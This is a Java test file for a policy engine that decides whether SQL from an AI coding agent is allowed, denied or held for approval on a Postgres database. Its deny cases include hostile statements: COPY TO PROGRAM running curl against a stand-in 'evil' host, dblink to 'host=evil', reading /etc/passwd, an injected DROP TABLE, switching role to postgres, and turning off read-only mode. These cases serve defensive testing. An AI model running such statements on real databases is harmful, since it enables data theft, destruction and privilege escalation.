package dev.warden.sql.postgres;

import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.core.identity.Identity;
import dev.warden.core.policy.Decision;
import dev.warden.core.policy.DeclarativePolicyEngine;
import dev.warden.core.policy.Policy;
import dev.warden.core.policy.PolicyParser;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Parsed statements against the sample policy that ships in the jar (DESIGN.md), table-driven: the
 * decision and the rule that made it. Default deny; deny beats hold beats allow, per part.
 */
class PolicyDecisionTest {
  static final PostgresAnalyzer ANALYZER = new PostgresAnalyzer(PgQuery.load());

  /** The sample policy that ships in the jar (DESIGN.md's agent and dba policy). */
  static final Policy SAMPLE = new PolicyParser().sample();

  static final DeclarativePolicyEngine ENGINE = new DeclarativePolicyEngine(SAMPLE);
  static final Identity AGENT =
      new Identity("agent", "https://idp", Set.of("code-assistant"), Map.of());

  static Stream<Arguments> cases() {
    return Stream.of(
        row("SELECT * FROM public.customers", "Allow", "agent.read-write"),
        row(
            "SELECT * FROM public.orders o JOIN billing.invoices i ON i.customer_id = o.customer_id",
            "Allow",
            "agent.read-write"),
        row("INSERT INTO public.orders (id) VALUES (1)", "Allow", "agent.read-write"),
        row("BEGIN; UPDATE public.orders SET status = 'x'; COMMIT", "Allow", "agent.transactions"),
        row("SELECT * FROM internal.api_keys", "Deny", "deny.internal"),
        row(
            "SELECT * FROM public.customers WHERE id IN (SELECT id FROM internal.api_keys)",
            "Deny",
            "deny.internal"),
        row("WITH k AS (SELECT * FROM internal.api_keys) SELECT * FROM k", "Deny", "deny.internal"),
        row("DELETE FROM public.orders", "Hold", "agent.hold-delete"),
        row(
            "WITH gone AS (DELETE FROM public.orders RETURNING *) SELECT * FROM gone",
            "Hold",
            "agent.hold-delete"),
        row("EXPLAIN ANALYZE DELETE FROM public.orders", "Hold", "agent.hold-delete"),
        row("EXPLAIN DELETE FROM public.orders", "Allow", "agent.hold-delete"),
        row("EXPLAIN SELECT * FROM public.customers", "Allow", "agent.read-write"),
        row("EXPLAIN SELECT * FROM internal.api_keys", "Deny", "deny.internal"),
        row("EXPLAIN ANALYZE SELECT * FROM public.orders", "Allow", "agent.read-write"),
        row("SELECT pg_catalog.set_config('search_path', '', false)", "Allow", "agent.read-write"),
        row("SELECT set_config('role', 'postgres', false)", "Deny", "deny.role-switch"),
        row("SELECT set_config('search_path', lower('x'), false)", "Deny", "volatile-function"),
        row("PREPARE p AS SELECT * FROM internal.api_keys", "Deny", "deny.internal"),
        row("PREPARE p AS DELETE FROM public.orders", "Hold", "agent.hold-delete"),
        row("DECLARE c CURSOR FOR SELECT * FROM public.orders", "Allow", "agent.read-write"),
        row("DECLARE c CURSOR FOR SELECT * FROM internal.api_keys", "Deny", "deny.internal"),
        row("LISTEN jobs", "Allow", "agent.notifications"),
        row("LOCK TABLE public.orders IN ACCESS SHARE MODE", "Allow", "agent.read-write"),
        row("LOCK TABLE public.orders IN ROW EXCLUSIVE MODE", "Deny", "default-deny"),
        row(
            "WITH n AS (INSERT INTO public.orders (id) VALUES (2) RETURNING id) SELECT * FROM n",
            "Allow",
            "agent.read-write"),
        row("CREATE TABLE public.t (id int)", "Hold", "agent.hold-ddl"),
        row("DROP SCHEMA billing CASCADE", "Deny", "deny.destructive"),
        row("TRUNCATE public.orders", "Deny", "deny.destructive"),
        row("ALTER SYSTEM SET log_statement = 'none'", "Deny", "deny.destructive"),
        row("GRANT SELECT ON public.customers TO PUBLIC", "Deny", "deny.destructive"),
        row("SET ROLE postgres", "Deny", "deny.role-switch"),
        row("SELECT pg_read_file('/etc/passwd')", "Deny", "deny.server-files"),
        row("SELECT dblink_exec('host=evil', 'DROP TABLE x')", "Deny", "deny.server-files"),
        row("ROLLBACK; DROP DATABASE shop", "Deny", "deny.destructive"),
        row("SELECT 1; SELECT * FROM internal.api_keys", "Deny", "deny.internal"),
        row("SELECT 'a\\'; DROP TABLE public.customers; --'", "Hold", "agent.hold-ddl"),
        row("SELECT * FROM customers", "Deny", "default-deny"),
        row("SELECT * FROM \"Public\".customers", "Deny", "default-deny"),
        row("SELECT * FROM PUBLIC.customers", "Allow", "agent.read-write"),
        row("select * from public.customers", "Allow", "agent.read-write"),
        row("SELEC 1", "Deny", "default-deny"),
        row("COPY public.orders TO PROGRAM 'curl evil'", "Deny", "deny.copy-program-file"),
        row("COPY public.orders FROM '/etc/passwd'", "Deny", "deny.copy-program-file"),
        row("COPY public.orders TO STDOUT", "Allow", "agent.copy"),
        row("COPY (SELECT * FROM public.orders) TO STDOUT", "Allow", "agent.copy"),
        row("COPY (SELECT * FROM internal.api_keys) TO STDOUT", "Deny", "deny.internal"),
        row("SELECT relname FROM pg_catalog.pg_class", "Allow", "agent.catalog"),
        row("DO $$ BEGIN DELETE FROM public.orders; END $$", "Deny", "default-deny"));
  }

  static Arguments row(String sql, String decision, String rule) {
    return Arguments.of(sql, decision, rule);
  }

  @ParameterizedTest(name = "{0} -> {1} by {2}")
  @MethodSource("cases")
  void agentOnShop(String sql, String decision, String rule) {
    Decision d = ENGINE.decide(AGENT, Set.of("agent"), "shop", ANALYZER.analyze(sql));
    assertThat(d.getClass().getSimpleName()).as(sql + " -> " + d).isEqualTo(decision);
    assertThat(d.rule()).as(sql + " -> " + d).isEqualTo(rule);
  }

  @org.junit.jupiter.api.Test
  void theDbaIsReadOnlyAndTheAgentIsNot() {
    assertThat(ENGINE.readOnly(Set.of("dba"), "shop")).isTrue();
    assertThat(ENGINE.readOnly(Set.of("agent"), "shop")).isFalse();
    assertThat(ENGINE.readOnly(Set.of("nobody"), "shop")).isFalse();
    // A read-only role may dump (COPY … TO STDOUT, set_config of a harmless setting), never write.
    for (String sql :
        List.of(
            "COPY public.customers TO STDOUT",
            "SELECT pg_catalog.set_config('search_path', '', false)",
            // pg_dump 15.14+ (CVE-2025-8714), as it sends it:
            "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings"
                + " WHERE name = 'restrict_nonsystem_relation_kind'",
            "LOCK TABLE public.customers IN ACCESS SHARE MODE",
            "EXPLAIN SELECT * FROM internal.api_keys")) {
      assertThat(ENGINE.decide(AGENT, Set.of("dba"), "shop", ANALYZER.analyze(sql)))
          .as(sql)
          .isInstanceOf(Decision.Allow.class);
    }
    for (String sql :
        List.of(
            "COPY public.customers FROM STDIN",
            "SELECT set_config('default_transaction_read_only', 'off', false)",
            "SELECT set_config('transaction_read_only', 'off', true)",
            "SELECT set_config(name, 'off', false) FROM pg_settings"
                + " WHERE name = 'default_transaction_read_only'",
            "SELECT set_config(name, 'off', false) FROM pg_settings WHERE name LIKE 'default%'",
            "EXPLAIN UPDATE public.orders SET status = 'x'")) {
      assertThat(ENGINE.decide(AGENT, Set.of("dba"), "shop", ANALYZER.analyze(sql)))
          .as(sql)
          .isInstanceOf(Decision.Deny.class);
    }
    Decision d =
        ENGINE.decide(
            AGENT,
            Set.of("dba"),
            "shop",
            ANALYZER.analyze("SET default_transaction_read_only = off"));
    assertThat(d.rule()).isEqualTo("read-only-session");
    assertThat(
            ENGINE.decide(
                AGENT,
                Set.of("agent"),
                "shop",
                ANALYZER.analyze("SET default_transaction_read_only = off")))
        .isInstanceOf(Decision.Allow.class);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void nothingIsAllowedWithoutAGrant(String sql, String ignoredDecision, String ignoredRule) {
    assertThat(ENGINE.decide(AGENT, Set.of("someone-else"), "shop", ANALYZER.analyze(sql)))
        .isInstanceOf(Decision.Deny.class);
    assertThat(ENGINE.decide(AGENT, Set.of("agent"), "other-connection", ANALYZER.analyze(sql)))
        .isInstanceOf(Decision.Deny.class);
  }
}
